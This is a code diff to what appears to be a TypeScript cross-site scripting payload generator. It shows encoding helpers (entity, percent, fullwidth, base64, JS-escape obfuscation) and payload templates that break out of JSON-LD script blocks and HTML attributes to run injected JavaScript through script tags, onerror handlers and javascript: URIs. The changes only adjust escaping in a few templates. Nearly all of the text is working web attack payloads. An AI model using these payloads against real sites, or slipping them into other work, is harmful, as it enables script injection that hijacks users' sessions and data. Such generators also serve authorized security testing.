@@ -52,7 +52,7 @@ const entities = (text: string, form: "dec" | "hex" | "dec0" | "hexNoSemi") =>
     })
     .join("");
 const percent = (text: string) => [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
-const fullwidth = (text: string) => text.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
+const fullwidth = (text: string) => text.replace(/[\u0021-\u007e]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
 const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");
 const jsEscape = (text: string) => [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
 const charCodes = (text: string) => [...text].map((c) => c.charCodeAt(0)).join(",");
@@ -443,7 +443,7 @@ const jsonLd: Template[] = [
   ({ js }) => ld(`x`, `,"publisher":{"@type":"Organization","logo":"javascript:${js}"}`),
   ({ js }) => ld(`</script\t><script>${js}</script>`),
   ({ js }) => ld(`</script/x><script>${js}</script>`),
-  ({ js }) => ld(`<\/script><script>${js}<\/script>`),
+  ({ js }) => ld(`</script><script>${js}</script>`),
 ];
 
 /* ---------------------------------------------------------------------------------------------- */
@@ -550,7 +550,7 @@ const attributeBreakout: Template[] = [
   ({ js }) => `</script><img src=x onerror=${js}>"}`,
   ({ js }) => `\\"})]};${js}//`,
   ({ js }) => `\r\n\r\n<script>${js}</script>`,
-  ({ js }) => `<!--\"><script>${js}</script>-->`,
+  ({ js }) => `<!--"><script>${js}</script>-->`,
 ];
 
 /* ---------------------------------------------------------------------------------------------- */
